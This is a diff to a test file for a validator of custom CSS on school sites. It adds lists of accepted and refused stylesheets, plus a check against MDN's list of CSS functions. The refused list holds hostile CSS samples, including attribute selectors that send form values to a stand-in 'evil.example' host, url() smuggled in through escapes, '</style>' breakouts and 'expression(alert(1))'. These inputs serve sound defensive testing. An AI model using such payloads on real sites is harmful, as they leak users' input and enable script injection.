@@ -1,6 +1,10 @@
 // slow, sqlite
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
 import t from 'tap';
 import { faultsOfCss } from '../../schema/school/custom-css.ts';
+
+const require = createRequire(import.meta.url);
 
 const ALLOWED = [
   '',
@@ -15,6 +19,12 @@ const ALLOWED = [
   '@layer base, site; @container (width > 1px) { :root { --brand: #123456 } }',
   '.src, .url, .expression { color: red }',
   'a[title="</"] { color: red }'.replace('</', '/'),
+  '.card:not(:has(> input[value^="a"])) { background: url(/a) }',
+  '.bar { position: fixed; inset: 0; z-index: 9999 }',
+  'a::after { content: attr(data-label) "https://text.example" }',
+  ':root { --a: url(/x.png); --b: --own(1px) } a { width: --own(var(--b)) }',
+  'a { width: -webkit-calc(1px + 2px); background: -moz-linear-gradient(red, blue); filter: alpha(opacity=50) }',
+  'a { background: url( "/x.png" ) }',
 ];
 
 const REFUSED: [string, string][] = [
@@ -45,6 +55,45 @@ const REFUSED: [string, string][] = [
   ['image()', 'a { background: image("https://evil.example/x") }'],
   ['src()', 'a { background: src("https://evil.example/x") }'],
   ['src() of a variable', ':root { --x: "https://evil.example" } a { background: src(var(--x)) }'],
+  ['src() of an attribute', 'a { background: src(attr(data-x)) }'],
+  ['an attribute as a URL', 'a { background: attr(data-x type(<url>)) }'],
+  ['image-set() of an attribute', 'a { background: image-set(attr(data-x) 1x) }'],
+  ['a variable of another origin', ':root { --x: url(https://evil.example/x) }'],
+  ['a variable of another origin without blanks', ':root{--x:url(//evil.example)}'],
+  ['an initial value', '@property --x { syntax: "<url>"; inherits: false; initial-value: url(https://evil.example) }'],
+  ['a font', '@font-face { font-family: x; src: local(y), url(https://evil.example/x.woff2) }'],
+  ['a font by src()', '@font-face { font-family: x; src: src("https://evil.example/x.woff2") }'],
+  ['a value of a form', 'input[value^="a"] { background: url(https://evil.example/a) }'],
+  ['a value of a form by :has()', 'form:has(input[value^="a"]) { background: url(https://evil.example/a) }'],
+  ['a cursor', 'a { cursor: url(https://evil.example/x), auto }'],
+  ['a list', 'ul { list-style: url(https://evil.example/x) }'],
+  ['a shape', 'a { clip-path: url(https://evil.example/x#y) }'],
+  ['a counter', '@counter-style x { system: cyclic; symbols: url(https://evil.example/x) }'],
+  ['filter() of a string', 'a { background: filter("https://evil.example/x", blur(1px)) }'],
+  ['cross-fade()', 'a { background: cross-fade(url(https://evil.example/x), red) }'],
+  [
+    'a filter of a former browser',
+    "a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil.example/x') }",
+  ],
+  ['element()', 'a { background: -moz-element(#x) }'],
+  ['a function that nobody knows', 'a { background: load("https://evil.example/x") }'],
+  ['url() with two targets', 'a { background: url("/a" "https://evil.example") }'],
+  ['url() with modifiers', 'a { background: url("/a" crossorigin(anonymous)) }'],
+  ['url() of a variable', 'a { background: url(var(--x)) }'],
+  ['url() with a quote inside', 'a { background: url(/a"https://evil.example") }'],
+  ['url() with a blank inside', 'a { background: url(/a https://evil.example) }'],
+  ['url() with a bracket inside', 'a { background: url(/a(https://evil.example)) }'],
+  ['url() with a tab in a string', 'a { background: url("/\t/evil.example") }'],
+  ['url() with an escape in a string', 'a { background: url("\\2f/evil.example") }'],
+  ['url() by an escape in capitals', 'a { background: u\\52 L(https://evil.example/x) }'],
+  ['image-set() by an escape', 'a { background: im\\61ge-set("https://evil.example/x" 1x) }'],
+  ['url() with a blank before its bracket', 'a { background: url (https://evil.example/x) }'],
+  ['image-set() in a condition', '@supports (background: image-set("x" 1x)) { a { color: red } }'],
+  ['@import after a rule', 'a { color: red } @import url(https://evil.example);'],
+  ['@import in a block', '@media all { @import "https://evil.example"; }'],
+  ['@view-transition', '@view-transition { navigation: auto }'],
+  ['an at-rule of other letters', '@m\u0435dia print { a { color: red } }'],
+  ['an at without a name', 'a { @ }'],
   ['expression()', 'a { width: expression(alert(1)) }'],
   ['expression() with a comment', 'a { width: expression/**/(alert(1)) }'],
   ['behavior', 'a { behavior: url(/x.htc) }'],
@@ -62,6 +111,15 @@ const REFUSED: [string, string][] = [
   ['brackets across', 'a { width: calc(1px} )'],
   ['a backslash outside of strings', '.md\\:flex { display: flex }'],
   ['NUL', 'a { color: \u0000red }'],
+  ['an escape at the end', 'a { color: red } \\'],
+  ['a string that ends with an escape', 'a { content: "x\\'],
+  ['a string with an escaped line break', 'a { content: "x\\\n" }'],
+  ['a string behind an escaped quote', 'a { content: "x\\" }'],
+  ['a comment of three characters', 'a { color: red } /*/'],
+  ['a comment that opens url()', 'a { background: url(/x /* ) } */ ) }'],
+  ['a bracket that only a comment closes', '@media print { a { color: red } /* } */'],
+  ['the end of the element in url()', 'a { background: url(/</style>) }'],
+  ['the end of the element in a name', 'a</style { color: red }'],
   ['half of a character', 'a { content: "\ud83d" }'],
 ];
 
@@ -80,6 +138,19 @@ t.test('of thousands of wrong at-rules, or a long one, an answer repeats little 
     t.match(faults[0], /^must not use @x/);
     t.ok(faults.join().length < 400, `${faults.join().length} characters`);
   }
+});
+
+/** The functions of all standards, of values and of selectors, as MDN lists them. */
+const STANDARD = ['functions', 'selectors'].flatMap((name) =>
+  Object.keys(JSON.parse(readFileSync(require.resolve(`mdn-data/css/${name}.json`), 'utf8')))
+    .filter((one) => one.endsWith('()'))
+    .map((one) => one.replace(/^:+/, '').slice(0, -1)),
+);
+
+t.test('every function of the standards is accepted, except those that take a URL as a string [D2]', async (t) => {
+  t.ok(STANDARD.length > 110, `${STANDARD.length} functions`);
+  const refused = STANDARD.filter((name) => faultsOfCss(`a { x: ${name}1) }`).length > 0);
+  t.strictSame(refused, ['element(', 'image(', 'image-set(']);
 });
 
 /** Some systems count the time of the processor in such steps. */
